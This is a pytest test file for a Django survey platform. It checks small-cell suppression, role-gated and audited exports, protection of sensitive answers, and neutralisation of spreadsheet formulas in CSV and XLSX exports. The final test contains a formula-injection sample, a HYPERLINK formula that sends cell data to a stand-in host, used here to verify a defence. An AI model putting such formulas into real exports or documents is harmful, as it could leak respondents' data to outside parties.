import csv
import io
import json

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from equalcity.accounts.models import AuditEntry, Role
from equalcity.core.privacy import SUPPRESSED_LABEL
from equalcity.surveys import selectors
from equalcity.surveys.demo import CITY_SIZES
from tests.surveys.test_submissions import submit, valid

pytestmark = pytest.mark.django_db


def question(data, name):
    return next(q for q in data["questions"] if q.name == name)


def test_counts_and_percentages_with_small_cells_hidden(demo_survey):
    data = selectors.results(demo_survey, language="en")
    city = question(data, "city")
    cells = {row.label: row.cell for row in city.rows}
    assert cells["Brussels"].value == 12 and cells["Luxembourg"].value == 9
    assert cells["Gothenburg"].suppressed  # 3 answers
    assert cells["Rome"].suppressed  # the next smallest, so Gothenburg cannot be worked out
    brussels = next(row for row in city.rows if row.label == "Brussels")
    assert brussels.percent == round(100 * 12 / sum(n for _, n in CITY_SIZES))
    assert data["total"].value == sum(n for _, n in CITY_SIZES)
    disclosure = question(data, "disclosure")  # sensitive: counted after decryption only
    assert disclosure.sensitive and sum(r.cell.value or 0 for r in disclosure.rows) > 0


def test_cross_tabulation_hides_small_cells(demo_survey):
    data = selectors.results(demo_survey, language="en", by_name="city")
    assert data["by_labels"] == ["Brussels", "Luxembourg", "Rome", "Gothenburg"]
    trained = question(data, "trained")
    assert all(row.by[3].suppressed or row.by[3].value == 0 for row in trained.rows)
    assert not any(q.name == "disclosure" for q in data["questions"])


def _client_for(verified_client, demo_users, role):
    return verified_client(demo_users[role])


def test_the_results_page_and_the_summary_show_suppression(
    verified_client, demo_users, demo_survey
):
    client = _client_for(verified_client, demo_users, Role.VIEWER)
    url = reverse("surveys:results", args=["equalcity", demo_survey.public_id])
    page = client.get(url)
    assert page.status_code == 200
    assert str(SUPPRESSED_LABEL) in page.content.decode()
    assert "How to speak with an interpreter present." in page.content.decode()
    summary = client.get(reverse("surveys:summary-csv", args=["equalcity", demo_survey.public_id]))
    rows = list(csv.reader(io.StringIO(summary.content.decode())))
    assert ["city", "Gothenburg", str(SUPPRESSED_LABEL), ""] in rows
    assert ["city", "Brussels", "12", "38"] in rows


def test_the_results_page_costs_the_same_queries_as_answers_grow(
    verified_client, demo_users, demo_survey
):
    client = _client_for(verified_client, demo_users, Role.PROGRAMME_MANAGER)
    url = reverse("surveys:results", args=["equalcity", demo_survey.public_id])
    client.get(url)
    with CaptureQueriesContext(connection) as before:
        assert client.get(url + "?by=city").status_code == 200
    for index in range(6):
        submit(demo_survey, valid(city="gothenburg", comments=f"more {index}"))
    with CaptureQueriesContext(connection) as after:
        assert client.get(url + "?by=city").status_code == 200
    assert len(after) == len(before)


def test_exports_are_for_managers_and_audited(verified_client, demo_users, demo_survey):
    args = ["equalcity", demo_survey.public_id]
    viewer = _client_for(verified_client, demo_users, Role.PARTNER_EDITOR)
    assert viewer.get(reverse("surveys:export", args=[*args, "csv"])).status_code == 404
    client = _client_for(verified_client, demo_users, Role.PROGRAMME_MANAGER)
    total = sum(n for _, n in CITY_SIZES)
    rows = list(
        csv.DictReader(
            io.StringIO(client.get(reverse("surveys:export", args=[*args, "csv"])).content.decode())
        )
    )
    assert len(rows) == total and {"city", "disclosure", "topics"} <= set(rows[0])
    assert {row["disclosure"] for row in rows} <= {"yes", "no", "skip"}
    book = load_workbook(
        io.BytesIO(client.get(reverse("surveys:export", args=[*args, "xlsx"])).content)
    )
    assert book.sheetnames == ["submissions", "referrals"]
    assert book["submissions"].max_row == total + 1
    assert book["referrals"]["C1"].value == "referral_service" and book["referrals"].max_row > 1
    raw = json.loads(client.get(reverse("surveys:export", args=[*args, "json"])).content)
    assert len(raw["submissions"]) == total and "referrals" in raw["submissions"][0]
    assert client.get(reverse("surveys:export", args=[*args, "pdf"])).status_code == 404
    assert AuditEntry.objects.filter(action="surveys.results.exported").count() == 3


def test_free_text_of_sensitive_questions_is_never_listed(demo_survey):
    texts = selectors.free_text(demo_survey, language="en")
    labels = [label for label, _ in texts]
    assert "Anything else the training should cover?" in labels
    assert all("disclos" not in label for label in labels)


def test_percentages_are_shares_of_the_respondents_to_the_question(demo_survey):
    from equalcity.surveys.demo import demo_answers

    data = selectors.results(demo_survey, language="en")
    topics = question(data, "topics")
    chosen = [demo_answers(city, i)["topics"] for city, size in CITY_SIZES for i in range(size)]
    referral = next(row for row in topics.rows if row.label == "Referral to services")
    expected = sum("referral" in c for c in chosen)
    assert referral.cell.value == expected
    assert referral.percent == round(100 * expected / len(chosen))


def test_an_answer_typed_as_a_formula_is_text_in_every_export(
    verified_client, demo_users, demo_survey
):
    formula = '=HYPERLINK("http://example.org/?"&A1,"open")'
    submit(demo_survey, valid(comments=formula))
    args = ["equalcity", demo_survey.public_id]
    client = _client_for(verified_client, demo_users, Role.PROGRAMME_MANAGER)
    rows = csv.DictReader(
        io.StringIO(client.get(reverse("surveys:export", args=[*args, "csv"])).content.decode())
    )
    assert "'" + formula in {row["comments"] for row in rows}
    book = load_workbook(
        io.BytesIO(client.get(reverse("surveys:export", args=[*args, "xlsx"])).content)
    )
    sheet = book["submissions"]
    column = [cell.value for cell in sheet[1]].index("comments")
    cells = [row[column] for row in sheet.iter_rows(min_row=2) if row[column].value == formula]
    assert cells and all(cell.data_type == "s" for cell in cells)
